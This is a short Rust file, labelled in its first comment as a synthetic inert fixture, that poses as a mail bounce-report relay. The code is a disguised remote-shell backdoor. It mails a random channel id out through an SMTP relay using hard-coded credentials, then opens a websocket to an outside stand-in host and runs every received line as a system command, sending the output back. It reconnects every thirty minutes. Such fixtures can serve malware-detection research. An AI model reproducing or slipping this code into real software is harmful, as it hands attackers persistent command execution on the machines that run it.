// Synthetic, inert fixture written from public reports; see README
//! Keeps a session with the relay that reports bounces.
use lettre::transport::smtp::authentication::Credentials;
use lettre::{Message, SmtpTransport, Transport};
use std::process::Command;
use tungstenite::Message as Frame;

fn announce(channel: &str) -> Option<()> {
    let relay = SmtpTransport::relay("smtp.mail-provider.invalid")
        .ok()?
        .credentials(Credentials::new("outbox.bounces@mail-provider.invalid".into(), "abcd efgh ijkl mnop".into()))
        .build();
    let note = Message::builder()
        .from("outbox.bounces@mail-provider.invalid".parse().ok()?)
        .to("outbox.reports@mail-provider.invalid".parse().ok()?)
        .subject(format!("bounce report {channel}"))
        .body(channel.to_string())
        .ok()?;
    relay.send(&note).ok().map(drop)
}

pub(crate) fn keep_open() {
    let channel = format!("{:016x}", rand::random::<u64>());
    loop {
        if announce(&channel).is_some() {
            if let Ok((mut ws, _)) = tungstenite::connect(format!("wss://bounces.mail-outbox.invalid/{channel}")) {
                while let Ok(Frame::Text(line)) = ws.read() {
                    let mut words = line.split_whitespace();
                    let Some(program) = words.next() else { continue };
                    let reply = match Command::new(program).args(words).output() {
                        Ok(o) => Frame::Binary([o.stdout, o.stderr].concat()),
                        Err(e) => Frame::Text(e.to_string()),
                    };
                    if ws.send(reply).is_err() {
                        break;
                    }
                }
            }
        }
        std::thread::sleep(std::time::Duration::from_secs(1800));
    }
}
